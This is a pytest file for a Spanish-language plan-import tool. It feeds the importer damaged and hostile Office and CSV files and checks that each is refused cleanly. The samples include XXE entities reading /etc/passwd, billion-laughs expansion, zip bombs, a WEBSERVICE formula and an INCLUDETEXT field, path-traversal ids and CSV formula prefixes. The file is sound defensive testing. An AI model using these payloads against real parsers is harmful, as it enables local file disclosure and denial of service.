"""Damaged and hostile files: a sentence each, and not one byte of the plan changes."""

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from helpers.calls import Outcome, Rutaplan
from helpers.effort import seconds
from helpers.forms import blank
from openpyxl import Workbook

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
FILA = ("Abrir una ventanilla única de atención.", "nacional", "6")
CSV = "Acción,Nivel,Plazo\n"
NO_ES = "ábralo en Word, Excel o LibreOffice y guárdelo de nuevo"
DANADO = "dañado"


def xlsx(*rows: tuple[object, ...]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows or (("Acción", "Nivel", "Plazo"), FILA):
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def docx(*rows: tuple[str, ...], text: str = "") -> bytes:
    document = blank()
    document.add_paragraph(text)
    table = document.add_table(0, 3)
    for row in rows or (("Acción", "Nivel", "Plazo"), FILA):
        for cell, value in zip(table.add_row().cells, row, strict=True):
            cell.text = value
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def repacked(content: bytes, **changes: bytes | None) -> bytes:
    """The same zip with some parts changed, added or (None) left out; names with / as __."""
    own = zipfile.ZipFile(io.BytesIO(content)).namelist()
    renamed = {
        name
        if name in own
        else name.replace("__", "/").replace("_xml", ".xml").replace("_rels", ".rels"): new
        for name, new in changes.items()
    }
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        parts = {name: old.read(name) for name in old.namelist()} | renamed
        for name, part in parts.items():
            if part is not None:
                new.writestr(name, part)
    return stream.getvalue()


def part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def body(xml: str) -> bytes:
    """A .docx whose body is this."""
    start = (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>'
    )
    return repacked(docx(), word__document_xml=f"{start}{xml}</w:body></w:document>".encode())


def sheet(xml: str) -> bytes:
    """An .xlsx whose sheet is this."""
    start = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    )
    return repacked(xlsx(), xl__worksheets__sheet1_xml=f"{start}{xml}</worksheet>".encode())


def entity(content: bytes, name: str, declaration: str) -> bytes:
    old = part(content, name)
    head, _, rest = old.partition(b"?>")
    return repacked(content, **{name: head + b"?>" + declaration.encode() + rest})


def encrypted() -> bytes:
    data = bytearray(docx())
    for at in range(len(data) - 4):
        if data[at : at + 4] == b"PK\x01\x02":
            data[at + 8] |= 1
        if data[at : at + 4] == b"PK\x03\x04":
            data[at + 6] |= 1
    return bytes(data)


def turned() -> bytes:
    data = bytearray(docx())
    at = data.index(b"word/document.xml") + 60
    data[at : at + 40] = bytes(reversed(data[at : at + 40]))
    return bytes(data)


def many_parts() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for number in range(3000):
            archive.writestr(f"word/{number}.xml", b"")
    return stream.getvalue()


def twice() -> bytes:
    stream = io.BytesIO(docx())
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/document.xml", b"<x/>")
    return stream.getvalue()


BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
ROW = "<w:tr><w:tc><w:tcPr>{}</w:tcPr><w:p><w:r><w:t>Acción</w:t></w:r></w:p></w:tc></w:tr>"
WIDE = ROW.format('<w:gridSpan w:val="1000000"/>')
DEEP = "<w:sdt><w:sdtContent>" * 3000 + "</w:sdtContent></w:sdt>" * 3000
TABLES = "<w:tbl><w:tr><w:tc>" * 400 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 400
CELLS = '<c r="A1" t="inlineStr"><is><t>Acción</t></is></c><c r="B1" t="inlineStr"><is><t>Nivel</t></is></c>'

# What is no document at all: code 2 and these words.
RECHAZADOS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "empty": ("a.docx", lambda: b"", "Está vacío."),
    "blank": ("a.csv", lambda: b" \r\n\t\n", "Está vacío."),
    "docx cut": ("a.docx", lambda: docx()[:3000], DANADO),
    "docx cut early": ("a.docx", lambda: docx()[:30], DANADO),
    "xlsx cut": ("a.xlsx", lambda: xlsx()[:-40], DANADO),
    "xlsx noise": ("a.xlsx", lambda: b"PK\x03\x04" + bytes(range(256)) * 20, DANADO),
    "docx with bytes turned": ("a.docx", turned, DANADO),
    "text as docx": ("a.docx", CSV.encode, NO_ES),
    "text as xlsx": ("a.xlsx", CSV.encode, NO_ES),
    "html as xlsx": ("a.xlsx", lambda: b"<html><table><tr><td>x</td></tr></table></html>", "Es una página web: ábrala"),
    "pdf as docx": ("a.docx", lambda: b"%PDF-1.7\n", "Es un PDF: use el documento del que salió"),
    "rtf as docx": ("a.docx", lambda: b"{\\rtf1\\ansi x}", "Es un .rtf: ábralo"),
    "xlsx as docx": ("a.docx", xlsx, "Contiene un .xlsx"),
    "docx as xlsx": ("a.xlsx", docx, "Contiene un .docx"),
    "docx as csv": ("a.csv", docx, "Contiene un .docx"),
    "xlsx as txt": ("a.txt", xlsx, "Contiene un .xlsx"),
    "pdf": ("a.pdf", lambda: b"%PDF-1.7\n", "Es un PDF"),
    "no extension": ("acciones", CSV.encode, "No se lee ese formato"),
    "odt": ("a.odt", lambda: repacked(docx(), word__document_xml=None), "No es un documento de Word (.docx) ni"),
    "any zip": ("a.docx", lambda: repacked(docx(), word__document_xml=None), "No es un documento de Word (.docx) ni"),
    "no content types": (
        "a.docx", lambda: repacked(docx(), **{"[Content_Types].xml": None}), "No es un documento de Word (.docx) ni",
    ),
    "old doc": ("a.doc", lambda: OLE, "versión antigua de Word o Excel"),
    "old xls": ("a.xls", lambda: OLE, "versión antigua de Word o Excel"),
    "docx with a password": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "Tiene contraseña"),
    "zip with a password": ("a.docx", encrypted, "Tiene contraseña"),
    "bomb": ("a.docx", lambda: repacked(docx(), word__x=b"\0" * (200 * 2**20)), "se abre en más de lo que un plan"),
    "bomb in many parts": (
        "a.xlsx", lambda: repacked(xlsx(), **{f"xl__{n}_xml": b" " * 2**20 for n in range(140)}), "se abre en más",
    ),
    "too many parts": ("a.docx", many_parts, "se abre en más de lo que un plan"),
    "the same part twice": ("a.docx", twice, DANADO),
    "entities that grow": ("a.docx", lambda: entity(docx(), "word/document.xml", BILLION), "declara entidades"),
    "entities from outside": ("a.docx", lambda: entity(docx(), "word/document.xml", OUTSIDE), "declara entidades"),
    "entities in styles": ("a.docx", lambda: entity(docx(), "word/styles.xml", BILLION), "declara entidades"),
    "entities in a sheet": ("a.xlsx", lambda: entity(xlsx(), "xl/worksheets/sheet1.xml", BILLION), "declara entidades"),
    "entities in relations": ("a.xlsx", lambda: entity(xlsx(), "_rels/.rels", OUTSIDE), "declara entidades"),
    "entities in UTF-16": (
        "a.docx", lambda: repacked(docx(), word__document_xml=f"{BILLION}<x/>".encode("utf-16")), "declara entidades",
    ),
    "xml that is none": ("a.docx", lambda: repacked(docx(), word__document_xml=b"<w:document"), DANADO),
    "xml of something else": ("a.docx", lambda: repacked(docx(), word__document_xml=b"<x/>"), DANADO),
    "sheet that is none": ("a.xlsx", lambda: repacked(xlsx(), xl__worksheets__sheet1_xml=b"<worksheet"), DANADO),
    "workbook that is none": ("a.xlsx", lambda: repacked(xlsx(), xl__workbook_xml=b"<x/>"), "No se reconoce"),
    "styles that are none": ("a.xlsx", lambda: repacked(xlsx(), xl__styles_xml=b"<styleSheet a=>"), DANADO),
    "no sheet": ("a.xlsx", lambda: repacked(xlsx(), xl__worksheets__sheet1_xml=None), DANADO),
    "deep": ("a.docx", lambda: body(DEEP), "una dentro de otra"),
    "tables in tables": ("a.docx", lambda: body(TABLES), "una dentro de otra"),
    "a cell over a million columns": ("a.docx", lambda: body(f"<w:tbl>{WIDE}</w:tbl>"), "demasiadas columnas"),
    "a million rows": ("a.csv", (CSV + "x,y,z\n" * 30_000).encode, "es demasiado grande"),
    "a million columns": ("a.csv", (CSV + "x," * 1_000_000).encode, "demasiado grande"),
    "rows at the end of the sheet": (
        "a.xlsx", lambda: sheet(f'<sheetData><row r="1">{CELLS}</row><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'), "es demasiado grande",
    ),
    "a huge cell in a csv": ("a.csv", (CSV + "x" * 200_000).encode, "desmedida"),
    "a huge cell in a sheet": ("a.xlsx", lambda: sheet(f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * 40_000}</t></is></c></row></sheetData>'), "40000 letras"),
    "a huge paragraph": ("a.docx", lambda: docx(text="x" * 50_000), "50000 letras"),
    "quotes that never close": ("a.csv", (CSV + '"' + "x\n" * 90_000).encode, "comillas sin cerrar"),
    "binary as csv": ("a.csv", lambda: bytes(range(256)), "caracteres de control"),
    "nulls in a csv": ("a.csv", lambda: CSV.encode() + b"a\0b,nacional,6\n", "caracteres de control"),
    "escape sequences in a text": ("a.txt", lambda: b"\x1b[2J\x1b]0;x\x07", "caracteres de control"),
    "a text that is no form": ("a.txt", "Querida mesa:\n\tHola.\n".encode, "No se reconoce"),
    "a document without tables": ("a.docx", lambda: body("<w:p><w:r><w:t>Hola</w:t></w:r></w:p>"), "No se reconoce"),
    "a sheet without titles": ("a.xlsx", lambda: xlsx((1, 2, 3), (4, 5, 6)), "No se reconoce"),
    "a csv of something else": ("a.csv", lambda: b"fecha,monto\n2027-01-01,5\n", "No se reconoce"),
    "titles alone in a picture": ("a.docx", lambda: body("<w:p><w:r><w:drawing/></w:r></w:p>"), "No se reconoce"),
}  # fmt: skip


def table_csv(*rows: str) -> Callable[[], bytes]:
    return (CSV + "\n".join(rows) + "\n").encode


FORMULAS = sheet(
    f'<sheetData><row r="1">{CELLS}</row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://x.invalid")</f><v>Abrir una ventanilla.</v></c>'
    '<c r="B2" t="inlineStr"><is><t>nacional</t></is></c></row></sheetData>'
)
LEJOS = body(
    "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Acción</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>Nivel</w:t></w:r></w:p></w:tc></w:tr>"
    '<w:tr><w:tc><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>nacional</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'
)

# What is a document, and holds what is not taken: code 1, these words, and nothing written.
NO_LLEVADOS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a formula": ("a.xlsx", lambda: FORMULAS, "es una fórmula"),
    "an error of the sheet": ("a.xlsx", lambda: xlsx(("Id", "Plazo"), ("RET-N-01", "#REF!")), "es un error de la hoja"),
    "a field that includes a file": ("a.docx", lambda: LEJOS, "la celda está vacía"),
    "a text that is too short": ("a.csv", table_csv("Abrir.,nacional,6"), "demasiado corto"),
    "a text that is too long": ("a.csv", table_csv("Abrir " * 300 + ",nacional,6"), "demasiado largo"),
    "unknown ids": ("a.csv", lambda: b"Id,Plazo\nRET-N-77,6\n", "el plan no tiene la acción «RET-N-77»"),
    "ids of other ejes": ("a.csv", lambda: b"Id,Plazo\nREI-N-01,6\n", "el plan no tiene la acción «REI-N-01»"),
    "ids twice": ("a.csv", lambda: b"Id,Plazo\nRET-N-01,6\nRET-N-01,7\n", "está en más de una fila"),
    "ids that are paths": ("a.csv", lambda: b"Id,Plazo\n../../x,6\n", "el plan no tiene la acción «../../x»"),
    "an id with a command": ("a.csv", lambda: b"Id,Plazo\n::error::x,6\n", "el plan no tiene la acción"),
    "an action twice": (
        "a.csv",
        table_csv("Revisión de los marcos jurídicos.,nacional,", "Revisión de los  marcos jurídicos.,nacional,6"),
        "fila 3: repite RET-N-01",
    ),
    "no nivel": ("a.csv", table_csv("Abrir una ventanilla única.,,6"), "no dice nivel"),
    "a nivel that is none": ("a.csv", table_csv("Abrir una ventanilla única.,mundial,6"), "no dice nivel"),
    "a date for a plazo": ("a.csv", lambda: b"Id,Plazo\nRET-N-01,2027-01-01\n", "parece una fecha"),
    "a plazo that does not end": ("a.csv", lambda: b"Id,Plazo\nRET-N-01," + b"9" * 5000 + b"\n", "no es un número de meses"),
    "names without end": ("a.csv", lambda: b'Id,Instituciones\nRET-N-01,"' + b"xy y " * 5000 + b'"\n', "es demasiado largo"),
}  # fmt: skip


def files(folder: Path) -> dict[str, tuple[int, int, int]]:
    """What changes of a file when anybody writes it; that it says the same, the fixture looks at."""
    found = ((path, path.stat()) for path in folder.rglob("*") if path.is_file())
    return {str(path): (each.st_ino, each.st_size, each.st_mtime_ns) for path, each in found}


@pytest.mark.parametrize("name", RECHAZADOS)
def test_what_is_no_document_is_a_sentence(
    untouched: Path, rutaplan: Rutaplan, tmp_path: Path, name: str
) -> None:
    filename, content, said = RECHAZADOS[name]
    path = tmp_path / filename
    path.write_bytes(content())
    before, said_of = files(untouched), list[Outcome]()
    taken = seconds(lambda: said_of.append(rutaplan("import", str(path), "--si", cwd=untouched)))
    (outcome,) = said_of
    assert (outcome.code, outcome.out) == (2, ""), outcome.err
    slow = f"Leyendo «{path}»…\n"  # after two seconds, on a busy machine
    assert outcome.err.removeprefix(slow).startswith("Error: «"), outcome.err
    assert said in outcome.err
    assert outcome.err.count("\n") == 1
    assert "Traceback" not in outcome.err
    assert len(outcome.err) < 500
    assert taken < 5
    assert files(untouched) == before


@pytest.mark.parametrize("name", NO_LLEVADOS)
def test_what_is_not_taken_is_listed(untouched: Path, rutaplan: Rutaplan, tmp_path: Path, name: str) -> None:
    filename, content, said = NO_LLEVADOS[name]
    path = tmp_path / filename
    path.write_bytes(content())
    before, said_of = files(untouched), list[Outcome]()
    taken = seconds(lambda: said_of.append(rutaplan("import", str(path), "--si", cwd=untouched)))
    (outcome,) = said_of
    assert (outcome.code, outcome.err) == (1, ""), outcome.err
    assert said in outcome.out
    assert "0 nuevas · 0 cambiadas" in outcome.out
    assert taken < 5
    assert files(untouched) == before


@pytest.mark.parametrize("kind", ["missing", "folder", "link", "pipe", "big"])
def test_what_is_no_plain_file_is_a_sentence(
    untouched: Path, rutaplan: Rutaplan, tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "a.docx"
    if kind == "folder":
        path.mkdir()
    elif kind == "link":
        (tmp_path / "b.docx").write_bytes(docx())
        path.symlink_to(tmp_path / "b.docx")
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "big":
        with path.open("wb") as file:
            file.truncate(40 * 2**20)
    before = files(untouched)
    outcome = rutaplan("import", str(path), "--si", cwd=untouched)
    assert (outcome.code, outcome.out, outcome.err.count("\n")) == (2, "", 1), outcome.err
    assert files(untouched) == before


def test_macros_links_and_pictures_are_left_out(seed: Path, rutaplan: Rutaplan, tmp_path: Path) -> None:
    rels = part(docx(), "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://x.invalid/a.dotm" TargetMode="External"/></Relationships>',
    )
    changes = {"word__vbaProject.bin": b"\0\1", "word/_rels/document.xml.rels": rels}
    path = tmp_path / "a.docm"
    path.write_bytes(repacked(docx(), **changes))
    outcome = rutaplan("import", str(path), "--si", cwd=seed)
    assert (outcome.code, "1 nueva" in outcome.out) == (0, True), outcome.err


def test_what_a_csv_guards_is_unguarded(seed: Path, rutaplan: Rutaplan, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text(
        CSV + "'=Abrir una ventanilla.,nacional,6\n'Abrir una 'cita'.,nacional,7\n", encoding="utf-8"
    )
    rutaplan("import", str(path), "--si", cwd=seed)
    texts = [
        (seed / "data/acciones/retorno" / f"RET-N-{number}.yaml").read_text(encoding="utf-8")
        for number in (21, 22)
    ]
    assert "texto: =Abrir una ventanilla.\n" in texts[0] or "texto: '=Abrir una ventanilla.'\n" in texts[0]
    assert "'Abrir una 'cita'" in texts[1].replace("''", "'")


@pytest.mark.parametrize("letter", ["\u202e", "\u200b", "\u00ad", "\u2060"])
def test_letters_that_nobody_sees_are_taken_out_and_counted(
    seed: Path, rutaplan: Rutaplan, tmp_path: Path, letter: str
) -> None:
    path = tmp_path / "a.csv"
    path.write_text(f"{CSV}Abrir {letter}una{letter} ventanilla.,nacional,6\n", encoding="utf-8")
    outcome = rutaplan("import", str(path), "--si", cwd=seed)
    assert "2 caracteres invisibles se quitaron" in outcome.out
    assert "texto: Abrir una ventanilla.\n" in (seed / "data/acciones/retorno/RET-N-21.yaml").read_text(
        "utf-8"
    )
